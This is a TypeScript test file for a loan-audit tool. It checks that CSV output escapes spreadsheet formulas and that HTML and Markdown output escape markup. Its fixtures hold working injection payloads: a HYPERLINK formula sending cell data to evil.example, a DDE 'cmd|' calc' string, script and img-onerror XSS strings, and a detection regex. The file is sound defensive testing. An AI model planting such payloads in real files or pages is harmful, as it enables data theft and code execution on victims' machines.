// Issue 16, item 6 (the csv and HTML part): bank text never becomes a spreadsheet formula in the csv report
// (OWASP, "CSV Injection": a cell starting with = + - @, a tab or a carriage return is prefixed with a single
// quote), and never markup in the HTML or Markdown report. src/app/formats/csv.ts, html.ts, markdown.ts.
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { cell } from '../../src/app/formats/csv.js';
import { chromiumAvailable, renderInChromium, skipWithoutChromium } from '../helpers/chromium.js';
import { auditInProcess } from '../helpers/cli.js';

const dir = mkdtempSync(join(tmpdir(), 'fupin-injection-'));

const run = (args: string[]) => auditInProcess(args, join(dir, `out-${Math.random().toString(36).slice(2)}`));

afterEach(() => vi.restoreAllMocks());

/** What a spreadsheet may run or evaluate: stated here again, apart from the code under test. */
const DANGEROUS = /^[\s\u3000]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r]/;

/** CSV text for a header and rows, every cell quoted (RFC 4180), so tabs, quotes and commas survive. */
const csv = (header: string, rows: readonly (readonly string[])[]) =>
  `${header}\n${rows.map((r) => r.map((c) => `"${c.replace(/"/g, '""')}"`).join(',')).join('\n')}\n`;

// Hostile purposes: each also names a use, so that it is read and reported (and, with --all, every one is).
const PURPOSES = [
  '=HYPERLINK("http://evil.example/?"&A1,"盖房子")',
  "+1+cmd|' /C calc'!A0 建房",
  '-2+3 结婚',
  '@SUM(1,2) 理财',
  '\t=1+1 养牛',
  ' =1+1 种植',
  '\u3000=1+1 养鸡',
  '＝1+1 养猪',
  '<script>alert("x")</script> 盖房子 \'"',
];
const IDS = ["=cmd|' /C calc'!A0", '-L2', '@L3', '+L4', '\tL5', ' =L6', 'L7', 'L8', 'L<script>"9\''];

function portfolio(): string[] {
  const households = join(dir, 'households.csv');
  const loans = join(dir, 'loans.csv');
  writeFileSync(
    households,
    csv('id,povertyStatus,onPovertyOfficeList,region', [
      ['=H1', 'registered_poor', 'true', '=R1'],
      ['H<b>2"', 'registered_poor', 'true', 'R"><img src=x onerror=alert(1)>'],
    ]),
  );
  writeFileSync(
    loans,
    csv(
      'id,householdId,kind,principal,outstanding,contractDate,maturityDate,status,purpose',
      PURPOSES.map((purpose, i) => [IDS[i]!, i % 2 === 0 ? '=H1' : 'H<b>2"', 'new', '10000', '10000.00', '2020-03-01', '2022-03-01', 'active', purpose]),
    ),
  );
  return ['--households', households, '--loans', loans, '--as-of', '2020-12-31', '--all'];
}

describe('csv: no cell can start a formula', () => {
  it('prefixes a single quote to text starting with = + - @ (ASCII or full-width), a tab or CR, or one of them after white space', () => {
    for (const s of ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\tx', ' =1', '  @x', '\u3000=1', '＝1', '＋1', '－1', '＠x', '\n=1'])
      expect(cell(s).replace(/^"|"$/g, ''), JSON.stringify(s)).toBe(`'${s}`.replace(/"/g, '""'));
    // Anything else is left as it is, quoted only where RFC 4180 needs it.
    expect(cell('a=b')).toBe('a=b');
    expect(cell('1-2')).toBe('1-2');
    expect(cell('养牛')).toBe('养牛');
    expect(cell(17)).toBe('17');
    expect(cell(undefined)).toBe('');
    expect(cell('a,"b"')).toBe('"a,""b"""');
    expect(cell('=a,"b"')).toBe('"\'=a,""b"""');
  });

  it('writes hostile ids and purposes as text: no cell is dangerous, and each is the original behind one quote', async () => {
    const r = await run([...portfolio(), '--format', 'csv']);
    expect(r.code).toBe(0);
    const rows = parse<Record<string, string>>(r.text, { bom: true, columns: true, relax_quotes: false });
    expect(rows.length).toBeGreaterThan(PURPOSES.length);
    for (const row of rows) for (const [k, v] of Object.entries(row)) expect(DANGEROUS.test(v), `${k}: ${JSON.stringify(v)}`).toBe(false);
    // Every hostile purpose was reported, under its loan, as text that reads back exactly.
    const usage = rows.filter((row) => row.function === 'classifyUsage');
    expect(usage).toHaveLength(PURPOSES.length);
    PURPOSES.forEach((purpose, i) => {
      const row = usage.find((u) => (u.subject ?? '').replace(/^'/, '') === IDS[i])!;
      expect(row, IDS[i]).toBeDefined();
      expect(row.purpose).toBe(DANGEROUS.test(purpose) ? `'${purpose}` : purpose);
      expect(row.subject).toBe(DANGEROUS.test(IDS[i]!) ? `'${IDS[i]!}` : IDS[i]);
    });
    expect(rows.some((row) => row.subject === "'=cmd|' /C calc'!A0")).toBe(true);
  });
});

describe('HTML and Markdown: bank text is escaped, never markup', () => {
  it('escapes <script>, quotes and tags in purposes, ids and region codes', async () => {
    const html = (await run([...portfolio(), '--format', 'html'])).text;
    expect(html).not.toMatch(/<script|<img|<b>/i);
    expect(html).toContain('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; 盖房子 &#39;&quot;');
    expect(html).toContain('<code>L&lt;script&gt;&quot;9&#39;</code>');
    expect(html).toContain('data-region="R&quot;&gt;&lt;img src=x onerror=alert(1)&gt;"');
    // Formula text is shown as it is: the HTML is not a spreadsheet.
    expect(html).toContain('=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;盖房子&quot;)');

    const md = (await run([...portfolio(), '--format', 'md'])).text;
    // Ids go in code spans, where Markdown shows text as it is; outside them no tag survives.
    expect(md.replace(/`[^`\n]*`/g, '')).not.toMatch(/<script|<img|<b>/i);
    expect(md).toContain('`L<script>"9\'`');
    expect(md).toContain('&lt;script&gt;alert("x")&lt;/script&gt; 盖房子');
  });

  const haveChromium = chromiumAvailable();
  it.skipIf(skipWithoutChromium('formula-injection.test.ts, the browser test'))(
    'a browser builds no element from the hostile text',
    async () => {
      expect(haveChromium, 'Chromium is required at /usr/bin/chromium when CI is set').toBe(true);
      const file = join(dir, 'hostile.html');
      writeFileSync(file, (await run([...portfolio(), '--format', 'html'])).text);
      const dom = await renderInChromium(file);
      expect(dom).toContain('盖房子');
      expect(dom).not.toMatch(/<script|<img|<b>/i);
    },
    90_000,
  );
});
